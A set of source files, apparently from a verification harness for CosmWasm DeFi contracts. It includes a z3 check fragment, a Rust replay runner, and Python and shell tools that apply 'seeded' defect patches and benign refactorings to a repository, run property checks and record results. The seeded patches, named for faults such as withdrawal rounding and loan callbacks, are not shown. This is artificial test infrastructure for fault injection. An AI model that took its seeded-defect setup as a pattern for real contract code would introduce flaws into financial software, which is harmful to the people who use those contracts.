            g = lambda t: t * t + (bc - dc) * t - (cc + 10 ** 12 * t)
            r, _, _ = ck.solve(p.conds + [z3.Or(g(y + 2) <= 0, z3.And(y >= 2, g(y - 2) > 0))])
            ck.vac['twin'] = ck.vac.get('twin', 0) + 1
            ck.require(r == z3.sat, 'twin obligation (bracket of a wrong quadratic) should be refutable (p%d)' % prec)
        ck.require(nok >= 1, tag + ': no converged path')
        ck.require(nconv >= 1, tag + ': no ConvergeError path (the loop can be left without convergence only through the error)')
    ck.bounds['kernel'] = 'calculate_stableswap_y: arbitrary loop state, one iteration, exit paths only; pools in [10^6, 2^100), offer in [1, 2^100), amp in [1, 10^6], D arbitrary in [0, 2^200), y_prev in [0, 2^130)'
    ck.stubs.add('calculate_stableswap_d -> arbitrary Decimal256 (kernel part)')
