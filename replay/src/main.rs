// Generic replay runner: a batch of JSON scenarios on stdin -> real contract entry point calls on cosmwasm_std mocks -> JSON out.
// One line of output per scenario.  Storage keys travel as hex (cw-storage-plus map keys are binary).
use cosmwasm_std::testing::{MockApi, MockStorage};
use cosmwasm_std::{
    from_json, to_json_binary, Addr, AllBalanceResponse, BalanceResponse, BankQuery, Binary, BlockInfo, Coin, ContractInfo, ContractResult,
    Empty, Env, MessageInfo, Order, OwnedDeps, Querier, QuerierResult, QueryRequest, Reply, Storage, SystemError,
    SystemResult, Timestamp, Uint128, WasmQuery,
};
use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::io::Read;

struct TableQuerier {
    bank: BTreeMap<(String, String), u128>,
    supply: BTreeMap<String, u128>,
    smart: Vec<(String, Value, Value)>,
    contract_info: Option<Value>,
}

impl Querier for TableQuerier {
    fn raw_query(&self, bin: &[u8]) -> QuerierResult {
        let req: QueryRequest<Empty> = match from_json(bin) {
            Ok(r) => r,
            Err(e) => return SystemResult::Err(SystemError::InvalidRequest { error: e.to_string(), request: bin.into() }),
        };
        match req {
            QueryRequest::Bank(BankQuery::Balance { address, denom }) => {
                let amt = self.bank.get(&(address, denom.clone())).copied().unwrap_or(0);
                SystemResult::Ok(ContractResult::Ok(to_json_binary(&BalanceResponse { amount: Coin { denom, amount: Uint128::new(amt) } }).unwrap()))
            }
            QueryRequest::Bank(BankQuery::AllBalances { address }) => {
                let amount: Vec<Coin> = self.bank.iter().filter(|((a, _), _)| *a == address).map(|((_, d), v)| Coin { denom: d.clone(), amount: Uint128::new(*v) }).collect();
                SystemResult::Ok(ContractResult::Ok(to_json_binary(&AllBalanceResponse { amount }).unwrap()))
            }
            QueryRequest::Wasm(WasmQuery::Smart { contract_addr, msg }) => {
                let m: Value = serde_json::from_slice(msg.as_slice()).unwrap_or(Value::Null);
                for (a, q, r) in &self.smart {
                    if *a == contract_addr && *q == m {
                        if let Some(e) = r.get("__error__") {
                            return SystemResult::Ok(ContractResult::Err(e.as_str().unwrap_or("error").to_string()));
                        }
                        return SystemResult::Ok(ContractResult::Ok(Binary::from(serde_json::to_vec(r).unwrap())));
                    }
                }
                SystemResult::Err(SystemError::NoSuchContract { addr: format!("{} query {}", contract_addr, m) })
            }
            QueryRequest::Wasm(WasmQuery::ContractInfo { contract_addr }) => match &self.contract_info {
                Some(ci) => SystemResult::Ok(ContractResult::Ok(Binary::from(serde_json::to_vec(ci).unwrap()))),
                None => SystemResult::Err(SystemError::NoSuchContract { addr: contract_addr }),
            },
            _ => SystemResult::Err(SystemError::UnsupportedRequest { kind: "unsupported".into() }),
        }
    }
}

macro_rules! dispatch {
    ($krate:ident, $entry:expr, $deps:expr, $env:expr, $info:expr, $msg:expr, reply = $has_reply:tt) => {{
        match $entry {
            "instantiate" => $krate::contract::instantiate($deps.as_mut(), $env.clone(), $info.clone(), from_json($msg).map_err(|e| format!("ParseMsg({e})"))?)
                .map(|r| serde_json::to_value(&r).unwrap())
                .map_err(|e| format!("{:?}", e)),
            "execute" => $krate::contract::execute($deps.as_mut(), $env.clone(), $info.clone(), from_json($msg).map_err(|e| format!("ParseMsg({e})"))?)
                .map(|r| serde_json::to_value(&r).unwrap())
                .map_err(|e| format!("{:?}", e)),
            "query" => $krate::contract::query($deps.as_ref(), $env.clone(), from_json($msg).map_err(|e| format!("ParseMsg({e})"))?)
                .map(|b| json!({"data": serde_json::from_slice::<Value>(b.as_slice()).unwrap_or(Value::Null)}))
                .map_err(|e| format!("{:?}", e)),
            "reply" => dispatch!(@reply $krate, $deps, $env, $msg, $has_reply),
            "migrate" => $krate::contract::migrate($deps.as_mut(), $env.clone(), from_json($msg).map_err(|e| format!("ParseMsg({e})"))?)
                .map(|r| serde_json::to_value(&r).unwrap())
                .map_err(|e| format!("{:?}", e)),
            other => Err(format!("unknown entry {other}")),
        }
    }};
    (@reply $krate:ident, $deps:expr, $env:expr, $msg:expr, yes) => {{
        let rep: Reply = from_json($msg).map_err(|e| format!("ParseMsg({e})"))?;
        $krate::contract::reply($deps.as_mut(), $env.clone(), rep).map(|r| serde_json::to_value(&r).unwrap()).map_err(|e| format!("{:?}", e))
    }};
    (@reply $krate:ident, $deps:expr, $env:expr, $msg:expr, no) => {{
        Err::<Value, String>("contract has no reply entry".to_string())
    }};
}

fn run(sc: &Value) -> Value {
    let mut storage = MockStorage::default();
    for kv in sc["storage"].as_array().unwrap() {
        let k = hex::decode(kv[0].as_str().unwrap()).unwrap();
        storage.set(&k, serde_json::to_vec(&kv[1]).unwrap().as_slice());
    }
    let mut bank = BTreeMap::new();
    for b in sc["bank"].as_array().unwrap() {
        bank.insert((b[0].as_str().unwrap().to_string(), b[1].as_str().unwrap().to_string()), b[2].as_str().unwrap().parse::<u128>().unwrap());
    }
    let mut supply = BTreeMap::new();
    if let Some(arr) = sc["supply"].as_array() {
        for b in arr {
            supply.insert(b[0].as_str().unwrap().to_string(), b[1].as_str().unwrap().parse::<u128>().unwrap());
        }
    }
    let smart = sc["smart"].as_array().unwrap().iter().map(|e| (e[0].as_str().unwrap().to_string(), e[1].clone(), e[2].clone())).collect();
    let mut deps = OwnedDeps { storage, api: MockApi::default(), querier: TableQuerier { bank, supply, smart, contract_info: sc.get("contract_info").cloned() }, custom_query_type: std::marker::PhantomData::<Empty> };
    let env = Env {
        block: BlockInfo { height: sc["env"]["height"].as_u64().unwrap(), time: Timestamp::from_nanos(sc["env"]["time_nanos"].as_str().unwrap().parse().unwrap()), chain_id: "chain-1".into() },
        transaction: None,
        contract: ContractInfo { address: Addr::unchecked(sc["env"]["contract"].as_str().unwrap()) },
    };
    let funds: Vec<Coin> = serde_json::from_value(sc["info"]["funds"].clone()).unwrap_or_default();
    let info = MessageInfo { sender: Addr::unchecked(sc["info"]["sender"].as_str().unwrap_or("sender")), funds };
    let msg_bytes = serde_json::to_vec(&sc["msg"]).unwrap();
    let entry = sc["entry"].as_str().unwrap().to_string();
    let contract = sc["contract"].as_str().unwrap().to_string();
    let res = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| -> Result<Value, String> {
        let m = msg_bytes.as_slice();
        match contract.as_str() {
            "terraswap_pair" => dispatch!(terraswap_pair, entry.as_str(), deps, env, info, m, reply = yes),
            "stableswap_3pool" => dispatch!(stableswap_3pool, entry.as_str(), deps, env, info, m, reply = yes),
            "terraswap_factory" => dispatch!(terraswap_factory, entry.as_str(), deps, env, info, m, reply = yes),
            "terraswap_router" => dispatch!(terraswap_router, entry.as_str(), deps, env, info, m, reply = no),
            "frontend_helper" => dispatch!(frontend_helper, entry.as_str(), deps, env, info, m, reply = yes),
            "incentive" => dispatch!(incentive, entry.as_str(), deps, env, info, m, reply = no),
            "incentive_factory" => dispatch!(incentive_factory, entry.as_str(), deps, env, info, m, reply = yes),
            "vault" => dispatch!(vault, entry.as_str(), deps, env, info, m, reply = no),
            "vault_factory" if entry == "reply" => {
                let rep: Reply = from_json(m).map_err(|e| format!("ParseMsg({e})"))?;
                vault_factory::reply::reply(deps.as_mut(), env.clone(), rep).map(|r| serde_json::to_value(&r).unwrap()).map_err(|e| format!("{:?}", e))
            }
            "vault_factory" => dispatch!(vault_factory, entry.as_str(), deps, env, info, m, reply = no),
            "vault_router" => dispatch!(vault_router, entry.as_str(), deps, env, info, m, reply = no),
            "whale_lair" => dispatch!(whale_lair, entry.as_str(), deps, env, info, m, reply = no),
            "fee_collector" => dispatch!(fee_collector, entry.as_str(), deps, env, info, m, reply = yes),
            "fee_distributor" => dispatch!(fee_distributor, entry.as_str(), deps, env, info, m, reply = yes),
            "epoch_manager" => dispatch!(epoch_manager, entry.as_str(), deps, env, info, m, reply = no),
            other => Err(format!("unknown contract {other}")),
        }
    }));
    let storage_after: Vec<Value> = deps
        .storage
        .range(None, None, Order::Ascending)
        .map(|(k, v)| json!([hex::encode(&k), serde_json::from_slice::<Value>(&v).unwrap_or(Value::Null)]))
        .collect();
    let out = match res {
        Ok(Ok(v)) => json!({"outcome": "ok", "response": v}),
        Ok(Err(e)) => json!({"outcome": "err", "error": e}),
        Err(p) => {
            let msg = if let Some(s) = p.downcast_ref::<String>() { s.clone() } else if let Some(s) = p.downcast_ref::<&str>() { s.to_string() } else { "panic".to_string() };
            json!({"outcome": "panic", "message": msg})
        }
    };
    json!({"result": out, "storage_after": storage_after})
}

fn main() {
    std::panic::set_hook(Box::new(|info| { eprintln!("panic: {}", info); }));
    let mut inp = String::new();
    std::io::stdin().read_to_string(&mut inp).unwrap();
    let scs: Value = serde_json::from_str(&inp).unwrap();
    for sc in scs.as_array().unwrap() {
        println!("{}", run(sc));
    }
}
