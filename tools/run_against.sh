#!/bin/bash
# run_against.sh <patch.diff> <CHECK-ID>... : apply a patch to /repo, run the given checks (quick), undo the patch.
patch=$1; shift
cd /repo && git status --short | grep -q . && { echo "/repo not clean"; exit 9; }
git -C /repo apply "$patch" || exit 8
for id in "$@"; do
  /verif/check $id --tier quick > /verif/.cache/logs/seed_$id.log 2>&1; rc=$?
  echo "$id exit=$rc $(grep -c '^VIOLATION' /verif/.cache/logs/seed_$id.log) violations; $(grep -A1 '^VIOLATION' /verif/.cache/logs/seed_$id.log | grep obligation | sort -u | head -4 | tr '\n' ';')"
  grep "^INCONCLUSIVE" /verif/.cache/logs/seed_$id.log | head -3
done
git -C /repo checkout -- . ; git -C /repo status --short | head -3
