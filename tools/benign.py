#!/usr/bin/env python3
"""Behaviour-preserving refactorings (written by independent sub-agents): the checks must stay quiet on them.
usage: benign.py run [ID...]   -- applies each patch to /repo, runs the checks of the touched contracts (quick tier), undoes it, records exit codes."""
import json, os, subprocess, sys, glob
V = '/verif'
CHECKS = {'B1': ['C01', 'C02', 'C03', 'C04', 'C07', 'C14', 'C15', 'C16', 'C17', 'C18'], 'B2': ['C05', 'C06', 'C07', 'C14', 'C16', 'C17', 'C18', 'C19'],
          'B3': ['C11', 'C12', 'C13', 'C16', 'C19'], 'B4': ['C08', 'C09', 'C10', 'C16', 'C18', 'C20'], 'B5': ['C14', 'C15', 'C16', 'C19']}


def run(bid):
    d = '%s/benign/%s' % (V, bid)
    if subprocess.run(['git', 'status', '--short'], cwd='/repo', capture_output=True, text=True).stdout.strip():
        print('/repo not clean'); sys.exit(9)
    if subprocess.run(['git', 'apply', d + '/patch.diff'], cwd='/repo').returncode: print(bid, 'patch does not apply'); return
    res = {}
    try:
        checks = CHECKS[bid.split('-')[0]]
        procs = {c: subprocess.Popen([V + '/check', c, '--tier', 'quick'], cwd=V, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) for c in checks}
        for c in checks:
            out, _ = procs[c].communicate()
            open('%s/.cache/logs/benign_%s_%s.log' % (V, bid, c), 'w').write(out)
            res[c] = procs[c].returncode
    finally:
        subprocess.run(['git', 'checkout', '--', '.'], cwd='/repo')
    m = json.load(open(d + '/meta.json')); m['checks_exit'] = res; json.dump(m, open(d + '/meta.json', 'w'), indent=1)
    print(bid, res, flush=True)


if __name__ == '__main__':
    ids = sys.argv[2:] or sorted(os.path.basename(os.path.dirname(p)) for p in glob.glob(V + '/benign/*/patch.diff'))
    for b in ids: run(b)
