#!/usr/bin/env python3
"""Parallel lanes for running the checks against seeded / benign patches without touching /repo.
Each lane = a copy of /verif (with its own .cache) under /root/lanes/v<i> plus a scratch git worktree of /repo HEAD under
/root/lanes/r<i>; the lane's checks run with VERIF_REPO=<worktree> and a replay crate whose path dependencies point there.
Development aid only: nothing registered in MANIFEST.json uses lanes; registered checks always run in /verif against /repo.
usage: lanes.py setup <n> | lanes.py seeds <SID[:CHECK,CHECK...]>... | lanes.py teardown"""
import glob, json, os, queue, subprocess, sys, threading, time
V = '/verif'; L = '/root/lanes'
sys.path.insert(0, V + '/tools')


def sh(cmd, cwd=None, env=None):
    return subprocess.run(cmd, cwd=cwd, env=env, capture_output=True, text=True)


def lanes():
    if os.environ.get('LANES'): return [int(x) for x in os.environ['LANES'].split(',')]
    return sorted(int(d.rsplit('v', 1)[1]) for d in glob.glob(L + '/v*'))


def sync(i):
    v = '%s/v%d' % (L, i); r = '%s/r%d' % (L, i)
    head = sh(['git', 'rev-parse', 'HEAD'], '/repo').stdout.strip()
    if not os.path.isdir(r):
        sh(['git', 'worktree', 'add', '--detach', r, head], '/repo')
    sh(['git', 'checkout', '-q', '--', '.'], r); sh(['git', 'clean', '-fdq', '--', 'contracts', 'packages'], r)
    sh(['git', 'checkout', '-q', '--detach', head], r)
    first = not os.path.isdir(v)
    os.makedirs(v, exist_ok=True)
    ex = ['--exclude', '.git', '--exclude', 'seeded', '--exclude', 'benign', '--exclude', 'evidence_thorough', '--exclude', 'replays']
    if not first: ex += ['--exclude', '.cache', '--exclude', 'replay/Cargo.lock']
    subprocess.check_call(['rsync', '-a', '--delete'] + ex + [V + '/', v + '/'])
    t = open(V + '/replay/Cargo.toml').read().replace('"/repo/', '"%s/' % r)
    p = v + '/replay/Cargo.toml'
    if not os.path.exists(p) or open(p).read() != t: open(p, 'w').write(t)
    os.makedirs(v + '/replays', exist_ok=True); os.makedirs(v + '/evidence', exist_ok=True); os.makedirs(v + '/.cache/logs', exist_ok=True)


def run_in_lane(i, patch, checks, tag):
    v = '%s/v%d' % (L, i); r = '%s/r%d' % (L, i)
    sh(['git', 'checkout', '-q', '--', '.'], r); sh(['git', 'clean', '-fdq', '--', 'contracts', 'packages'], r)
    if patch:
        a = sh(['git', 'apply', patch], r)
        if a.returncode: return {c: dict(exit=8, violations=0, obligations=['patch does not apply: ' + a.stderr[:200]]) for c in checks}
    env = dict(os.environ, VERIF_REPO=r, CARGO_NET_OFFLINE='true')
    res = {}
    procs = {c: subprocess.Popen([v + '/check', c, '--tier', 'quick'], cwd=v, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) for c in checks}
    for c in checks:
        so, _ = procs[c].communicate()
        open('%s/.cache/logs/lane_%s_%s.log' % (V, tag, c), 'w').write(so)
        viol = sorted({l.strip().split(' at ')[0].replace('obligation ', '') for l in so.split('\n') if l.strip().startswith('obligation ')})
        res[c] = dict(exit=procs[c].returncode, violations=so.count('VIOLATION property='), obligations=viol[:8])
    sh(['git', 'checkout', '-q', '--', '.'], r); sh(['git', 'clean', '-fdq', '--', 'contracts', 'packages'], r)
    return res


def seeds(args):
    import seeds as S
    jobs = queue.Queue()
    for a in args:
        sid, _, cs = a.partition(':')
        checks = cs.split(',') if cs else [sid.split('-')[0]] + S.EXTRA.get(sid, [])
        jobs.put((sid, checks))
    ls = lanes()
    for i in ls: sync(i)
    lock = threading.Lock()
    def worker(i):
        while True:
            try: sid, checks = jobs.get_nowait()
            except queue.Empty: return
            t0 = time.time()
            res = run_in_lane(i, '%s/seeded/%s/patch.diff' % (V, sid), checks, sid)
            with lock:
                mp = '%s/seeded/%s/meta.json' % (V, sid)
                if os.path.exists(mp):
                    m = json.load(open(mp)); m.setdefault('checks', {}).update(res); json.dump(m, open(mp, 'w'), indent=1)
                for c, r in res.items():
                    print(sid, c, 'exit=%d' % r['exit'], 'violations=%d' % r['violations'], r['obligations'][:4], '(lane %d, %.0fs)' % (i, time.time() - t0), flush=True)
    ths = [threading.Thread(target=worker, args=(i,)) for i in ls]
    for t in ths: t.start()
    for t in ths: t.join()


def benign(ids):
    import benign as B
    ids = ids or sorted(os.path.basename(os.path.dirname(p)) for p in glob.glob(V + '/benign/*/patch.diff'))
    jobs = queue.Queue()
    for b in ids: jobs.put(b)
    ls = lanes()
    for i in ls: sync(i)
    lock = threading.Lock()
    def worker(i):
        while True:
            try: b = jobs.get_nowait()
            except queue.Empty: return
            only = os.environ.get('ONLY_CHECKS'); cs = [c for c in B.CHECKS[b.split('-')[0]] if not only or c in only.split(',')]
            if not cs: continue
            res = run_in_lane(i, '%s/benign/%s/patch.diff' % (V, b), cs, b)
            with lock:
                mp = '%s/benign/%s/meta.json' % (V, b)
                m = json.load(open(mp)); m.setdefault('checks_exit', {}).update({c: r['exit'] for c, r in res.items()}); json.dump(m, open(mp, 'w'), indent=1)
                print(b, m['checks_exit'], flush=True)
    ths = [threading.Thread(target=worker, args=(i,)) for i in ls]
    for t in ths: t.start()
    for t in ths: t.join()


if __name__ == '__main__':
    if sys.argv[1] == 'setup':
        for i in range(int(sys.argv[2])): sync(i); print('lane', i, 'ready')
    elif sys.argv[1] == 'seeds': seeds(sys.argv[2:])
    elif sys.argv[1] == 'benign': benign(sys.argv[2:])
    elif sys.argv[1] == 'clean':   # baseline: no patch
        ls = lanes(); sync(ls[0]); print(run_in_lane(ls[0], None, sys.argv[2:], 'clean'))
    elif sys.argv[1] == 'teardown':
        for i in lanes():
            sh(['git', 'worktree', 'remove', '--force', '%s/r%d' % (L, i)], '/repo'); sh(['rm', '-rf', '%s/v%d' % (L, i)])
