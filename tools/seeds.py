#!/usr/bin/env python3
"""Bookkeeping for seeded changes: confirm (in the scratch worktree) and run my checks against them (on /repo, undone afterwards).
usage: seeds.py confirm <ID-k> | seeds.py run <ID-k> <CHECK>... | seeds.py table"""
import json, os, subprocess, sys, shutil, glob
V = '/verif'
VAULT_T = 'contracts/liquidity_hub/vault-network/vault/tests'
INC_T = 'contracts/liquidity_hub/pool-network/incentive/src/tests'
def integ(crate_dir, pkg, f): return dict(dest=crate_dir + '/tests', mod=None, cmd=['cargo', 'test', '-p', pkg, '--offline', '--test', f[:-3]])
SEEDS = {
 'C08-1': dict(f='seeded_c08_1.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'seeded_c08_1.rs')),
 'C08-2': dict(f='seeded_c08_2.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'seeded_c08_2.rs')),
 'C09-1': dict(f='c09_demo_1.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'c09_demo_1.rs')),
 'C09-2': dict(f='c09_demo_2.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'c09_demo_2.rs')),
 'C01-1': dict(f='seeded_c01_withdraw_rounding.rs', **integ('contracts/liquidity_hub/pool-network/terraswap_pair', 'terraswap-pair', 'seeded_c01_withdraw_rounding.rs')),
 'C01-2': dict(f='seeded_c01_collect_threshold.rs', **integ('contracts/liquidity_hub/pool-network/terraswap_pair', 'terraswap-pair', 'seeded_c01_collect_threshold.rs')),
 'C13-1': dict(f='seeded_c13_1.rs', dest=INC_T, mod=(INC_T + '/mod.rs', 'mod seeded_c13_1;'), cmd=['cargo', 'test', '-p', 'incentive', '--offline', 'seeded_c13_1']),
 'C13-2': dict(f='seeded_c13_2.rs', dest=INC_T, mod=(INC_T + '/mod.rs', 'mod seeded_c13_2;'), cmd=['cargo', 'test', '-p', 'incentive', '--offline', 'seeded_c13_2']),
 'C06-1': dict(f='seeded_c06_1.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c06_1.rs')),
 'C06-2': dict(f='seeded_c06_2.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c06_2.rs')),
 'C05-1': dict(f='c05_seeded_1.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c05_seeded_1.rs')),
 'C05-2': dict(f='c05_seeded_2.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c05_seeded_2.rs')),
}
try: SEEDS.update(json.load(open(V + '/seeded/extra_seeds.json')))
except Exception: pass


def sh(cmd, cwd, env=None, log=None):
    r = subprocess.run(cmd, cwd=cwd, env=env, capture_output=True, text=True)
    if log: open(log, 'w').write(r.stdout + r.stderr)
    return r.returncode


def confirm(sid):
    pid, k = sid.split('-'); wt = '/tmp/wt-' + pid; s = SEEDS[sid]
    src = '%s/seeded/%s' % (wt, k); out = '%s/seeded/%s' % (V, sid); os.makedirs(out, exist_ok=True)
    env = dict(os.environ, CARGO_TARGET_DIR=wt + '/target', CARGO_NET_OFFLINE='true')
    def clean():
        sh(['git', 'checkout', '-q', '--', '.'], wt); sh(['git', 'clean', '-fdq', '--', 'contracts', 'packages'], wt)
    def install():
        os.makedirs(os.path.join(wt, s['dest']), exist_ok=True)
        shutil.copy(os.path.join(src, 'demo', s['f']), os.path.join(wt, s['dest'], s['f']))
        if s.get('mod'):
            with open(os.path.join(wt, s['mod'][0]), 'a') as fh: fh.write('\n' + s['mod'][1] + '\n')
    clean(); install()
    a = sh(s['cmd'], wt, env, out + '/demo_without_patch.log')
    clean()
    if sh(['git', 'apply', src + '/patch.diff'], wt): print(sid, 'PATCH DOES NOT APPLY'); return
    c = sh(['cargo', 'test', '--workspace', '--no-fail-fast', '--offline'], wt, env, out + '/suite_with_patch.log')
    install()
    b = sh(s['cmd'], wt, env, out + '/demo_with_patch.log')
    clean()
    shutil.copy(src + '/patch.diff', out + '/patch.diff')
    if os.path.isdir(out + '/demo'): shutil.rmtree(out + '/demo')
    shutil.copytree(src + '/demo', out + '/demo')
    am = json.load(open(src + '/meta.json'))
    ok = (a == 0 and b != 0 and c == 0)
    meta = dict(id=sid, property=pid, summary=am.get('summary'), needs_to_manifest=am.get('needs_to_manifest'), files_changed=am.get('files_changed'),
                demo=dict(file='demo/' + s['f'], install_to=s['dest'], append=s.get('mod'), cmd=' '.join(s['cmd'])),
                confirmed_by_me=dict(demo_passes_without_patch=(a == 0), demo_fails_with_patch=(b != 0), existing_suite_passes_with_patch=(c == 0),
                                     how='tools/seeds.py confirm %s in the scratch worktree %s (logs next to this file)' % (sid, wt)),
                kept=ok, checks={})
    old = out + '/meta.json'
    if os.path.exists(old):
        try: meta['checks'] = json.load(open(old)).get('checks', {})
        except Exception: pass
    json.dump(meta, open(old, 'w'), indent=1)
    print(sid, 'CONFIRMED' if ok else 'NOT-CONFIRMED', 'demo_without=%d demo_with=%d suite_with=%d' % (a, b, c))


def run(sid, checks):
    out = '%s/seeded/%s' % (V, sid)
    patch = out + '/patch.diff'
    if not os.path.exists(patch):
        pid, k = sid.split('-'); patch = '/tmp/wt-%s/seeded/%s/patch.diff' % (pid, k)
    if subprocess.run(['git', 'status', '--short'], cwd='/repo', capture_output=True, text=True).stdout.strip():
        print('/repo not clean'); sys.exit(9)
    if sh(['git', 'apply', patch], '/repo'): print('patch does not apply'); sys.exit(8)
    res = {}
    try:
        for cid in checks:
            log = '%s/.cache/logs/seed_%s_%s.log' % (V, sid, cid)
            r = subprocess.run([V + '/check', cid, '--tier', 'quick'], cwd=V, capture_output=True, text=True)
            open(log, 'w').write(r.stdout + r.stderr)
            viol = sorted({l.strip().split(' at ')[0].replace('obligation ', '') for l in r.stdout.split('\n') if l.strip().startswith('obligation ')})
            res[cid] = dict(exit=r.returncode, violations=r.stdout.count('VIOLATION property='), obligations=viol[:8])
            print(sid, cid, 'exit=%d' % r.returncode, 'violations=%d' % res[cid]['violations'], viol[:4])
    finally:
        sh(['git', 'checkout', '--', '.'], '/repo')
    mp = out + '/meta.json'
    if os.path.exists(mp):
        m = json.load(open(mp)); m.setdefault('checks', {}).update(res); json.dump(m, open(mp, 'w'), indent=1)


if __name__ == '__main__':
    if sys.argv[1] == 'confirm': confirm(sys.argv[2])
    elif sys.argv[1] == 'run': run(sys.argv[2], sys.argv[3:])
    elif sys.argv[1] == 'table':
        for d in sorted(glob.glob(V + '/seeded/*/meta.json')):
            m = json.load(open(d)); print(m['id'], 'kept' if m.get('kept') else 'NOT kept', {c: (r['exit'], r['violations']) for c, r in m.get('checks', {}).items()})
