#!/usr/bin/env python3
"""Bookkeeping for seeded changes: confirm (in the scratch worktree) and run my checks against them (on /repo, undone afterwards).
usage: seeds.py confirm <ID-k> | seeds.py run <ID-k> <CHECK>... | seeds.py table"""
import json, os, subprocess, sys, shutil, glob
V = '/verif'
VAULT_T = 'contracts/liquidity_hub/vault-network/vault/tests'
INC_T = 'contracts/liquidity_hub/pool-network/incentive/src/tests'
PN_D = 'contracts/liquidity_hub/pool-network'
def integ(crate_dir, pkg, f): return dict(dest=crate_dir + '/tests', mod=None, cmd=['cargo', 'test', '-p', pkg, '--offline', '--test', f[:-3]])
SEEDS = {
 'C08-1': dict(f='seeded_c08_1.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'seeded_c08_1.rs')),
 'C08-2': dict(f='seeded_c08_2.rs', **integ('contracts/liquidity_hub/whale_lair', 'whale-lair', 'seeded_c08_2.rs')),
 'C09-1': dict(f='c09_demo_1.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'c09_demo_1.rs')),
 'C09-2': dict(f='c09_demo_2.rs', **integ('contracts/liquidity_hub/fee_distributor', 'fee_distributor', 'c09_demo_2.rs')),
 'C01-1': dict(f='seeded_c01_withdraw_rounding.rs', **integ('contracts/liquidity_hub/pool-network/terraswap_pair', 'terraswap-pair', 'seeded_c01_withdraw_rounding.rs')),
 'C01-2': dict(f='seeded_c01_collect_threshold.rs', **integ('contracts/liquidity_hub/pool-network/terraswap_pair', 'terraswap-pair', 'seeded_c01_collect_threshold.rs')),
 'C13-1': dict(f='seeded_c13_1.rs', dest=INC_T, mod=(INC_T + '/mod.rs', 'mod seeded_c13_1;'), cmd=['cargo', 'test', '-p', 'incentive', '--offline', 'seeded_c13_1']),
 'C13-2': dict(f='seeded_c13_2.rs', dest=INC_T, mod=(INC_T + '/mod.rs', 'mod seeded_c13_2;'), cmd=['cargo', 'test', '-p', 'incentive', '--offline', 'seeded_c13_2']),
 'C06-1': dict(f='seeded_c06_1.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c06_1.rs')),
 'C06-2': dict(f='seeded_c06_2.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c06_2.rs')),
 'C05-1': dict(f='c05_seeded_1.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c05_seeded_1.rs')),
 'C05-2': dict(f='c05_seeded_2.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c05_seeded_2.rs')),
 'C02-1': dict(f='c02_seed1_fee_split.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c02_seed1_fee_split.rs')),
 'C02-2': dict(f='c02_seed2_exact_price.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c02_seed2_exact_price.rs')),
 'C04-1': dict(f='c04_seed1_swap_direction.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'c04_seed1_swap_direction.rs')),
 'C04-2': dict(f='c04_seed2_amp_reramp.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'c04_seed2_amp_reramp.rs')),
 'C07-1': dict(f='c07_collect_during_loan.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c07_collect_during_loan.rs')),
 'C07-2': dict(f='c07_burn_ledger_third_asset.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'c07_burn_ledger_third_asset.rs')),
 'C10-1': dict(f='seeded_c10_take_rate_magnitude.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'seeded_c10_take_rate_magnitude.rs')),
 'C10-2': dict(f='seeded_c10_collection_failure.rs', **integ('contracts/liquidity_hub/fee_collector', 'fee_collector', 'seeded_c10_collection_failure.rs')),
 'C11-1': dict(f='seeded_c11_1.rs', **integ(PN_D + '/incentive', 'incentive', 'seeded_c11_1.rs')),
 'C11-2': dict(f='seeded_c11_2.rs', **integ(PN_D + '/incentive', 'incentive', 'seeded_c11_2.rs')),
 'C12-1': dict(f='c12_demo_1.rs', **integ(PN_D + '/incentive', 'incentive', 'c12_demo_1.rs')),
 'C12-2': dict(f='c12_demo_2.rs', **integ(PN_D + '/incentive', 'incentive', 'c12_demo_2.rs')),
 'C14-1': dict(f='c14_sim_eq_exec_pending_fees.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c14_sim_eq_exec_pending_fees.rs')),
 'C14-2': dict(f='c14_trio_sim_eq_exec_all_directions.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'c14_trio_sim_eq_exec_all_directions.rs')),
 'C15-1': dict(f='c15_minimum_receive_receiver.rs', **integ(PN_D + '/terraswap_router', 'terraswap-router', 'c15_minimum_receive_receiver.rs')),
 'C15-2': dict(f='c15_belief_price_zero_spread.rs', **integ(PN_D + '/terraswap_pair', 'terraswap-pair', 'c15_belief_price_zero_spread.rs')),
 'C16-1': dict(f='c16_callback_during_loan.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'c16_callback_during_loan.rs')),
 'C16-2': dict(f='c16_next_loan_unregistered_asset.rs', **integ('contracts/liquidity_hub/vault-network/vault_router', 'vault_router', 'c16_next_loan_unregistered_asset.rs')),
 'C17-1': dict(f='seeded_c17_ramp_toggle.rs', **integ(PN_D + '/stableswap_3pool', 'stableswap-3pool', 'seeded_c17_ramp_toggle.rs')),
 'C17-2': dict(f='seeded_c17_nested_loan.rs', **integ('contracts/liquidity_hub/vault-network/vault', 'vault', 'seeded_c17_nested_loan.rs')),
